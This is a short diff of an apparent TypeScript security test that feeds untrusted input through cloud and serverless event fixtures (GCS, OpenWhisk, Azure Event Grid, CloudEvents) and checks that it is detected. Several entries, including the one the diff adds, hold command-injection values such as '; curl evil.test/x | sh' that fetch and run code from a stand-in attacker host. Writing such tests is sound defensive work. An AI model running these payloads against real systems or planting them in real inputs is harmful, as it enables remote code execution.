@@ -90,6 +90,7 @@ const sent: readonly {
   },
   { name: 'an object name', file: 'gcp/gcs-finalize-v1-background', where: ['name'], text: '$(curl evil.test/x | sh).pdf' },
   { name: 'a raw web action', file: 'openwhisk/raw-http-web-action', where: ['__ow_body'], text: btoa('{"a":"; curl evil.test/x | sh"}') },
+  { name: 'a forged stamp', file: 'azure/eventgrid-blob-created', where: [0, 'data', 'api'], text: '; curl evil.test/x | sh' },
   { name: 'a CloudEvent', file: 'cloudevents/structured-1.0-base64', where: ['data_base64'], text: btoa('; curl evil.test/x | sh') },
 ];
 describe('what an outsider sends is seen', () => {
